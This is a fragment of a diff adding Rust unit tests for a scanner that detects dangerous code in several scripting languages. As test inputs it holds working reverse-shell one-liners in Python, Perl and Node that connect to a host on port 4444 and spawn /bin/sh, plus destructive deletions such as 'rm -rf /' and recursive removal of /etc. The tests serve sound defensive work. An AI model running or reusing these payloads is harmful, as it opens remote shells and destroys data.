+        assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
+        assert!(f.contains(&Found::RunFetched));
+        assert!(py(
+            "import urllib.request; print(urllib.request.urlopen('https://pypi.org/').status)"
+        )
+        .iter()
+        .all(|f| !matches!(f, Found::RunFetched)));
+    }
+
+    #[test]
+    fn reverse_shells() {
+        let f = py("import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])");
+        assert!(f.contains(&Found::ReverseShell("10.0.0.1".into())));
+        assert!(!py("import socket; print(socket.gethostname())")
+            .iter()
+            .any(|f| matches!(f, Found::ReverseShell(_))));
+        let p = scan(
+            Lang::Perl,
+            r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.2")));open(STDIN,">&S");exec("/bin/sh -i");"#,
+        );
+        assert!(p.iter().any(|f| matches!(f, Found::ReverseShell(_))));
+        let n = scan(Lang::Node, "const n=require('net'),c=require('child_process');const s=n.connect(4444,'10.1.1.2');const sh=c.spawn('/bin/sh');s.pipe(sh.stdin)");
+        assert!(n.iter().any(|f| matches!(f, Found::ReverseShell(_))));
+        assert!(!scan(
+            Lang::Node,
+            "const n=require('net'); n.createServer().listen(8080)"
+        )
+        .iter()
+        .any(|f| matches!(f, Found::ReverseShell(_))));
+    }
+
+    #[test]
+    fn other_languages() {
+        assert!(
+            scan(Lang::Perl, "system(\"rm -rf /home\")").contains(&Found::Shell {
+                text: "rm -rf /home".into(),
+                dynamic: false
+            })
+        );
+        assert!(scan(Lang::Perl, "`rm -rf ~`").contains(&Found::Shell {
+            text: "rm -rf ~".into(),
+            dynamic: false
+        }));
+        assert!(
+            scan(Lang::Ruby, "exec \"/bin/sh -c \\\"rm -rf /srv\\\"\"").contains(&Found::Shell {
+                text: "/bin/sh -c \"rm -rf /srv\"".into(),
+                dynamic: false
+            })
+        );
+        assert!(
+            scan(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)").contains(
+                &Found::Delete {
+                    path: Some("~".into()),
+                    recursive: true
+                }
+            )
+        );
+        assert!(
+            scan(Lang::Node, "require('child_process').execSync('rm -rf ~')").contains(
+                &Found::Shell {
+                    text: "rm -rf ~".into(),
+                    dynamic: false
+                }
+            )
+        );
+        assert!(scan(
+            Lang::Node,
+            "require('fs').rmSync('/etc', {recursive: true})"
+        )
+        .contains(&Found::Delete {
+            path: Some("/etc".into()),
+            recursive: true
+        }));
+        assert!(
+            scan(Lang::Php, "system(\"rm -rf /\");").contains(&Found::Shell {
+                text: "rm -rf /".into(),
+                dynamic: false
+            })
+        );
+        assert!(scan(Lang::Ruby, "puts RUBY_VERSION").is_empty());
+        assert!(scan(Lang::Node, "console.log(process.version)").is_empty());
+        assert!(scan(Lang::Php, "echo phpversion();").is_empty());
+    }
+
+    #[test]
+    fn bounded_on_junk() {
+        let junk = "(".repeat(100_000) + &"'".repeat(1000) + "os.system(";
+        let _ = scan(Lang::Python, &junk);
+        let _ = scan(Lang::Perl, "qx(");
+        let _ = scan(Lang::Ruby, "%x{");
+        let _ = scan(Lang::Python, "\"\"\"");
+    }
+}
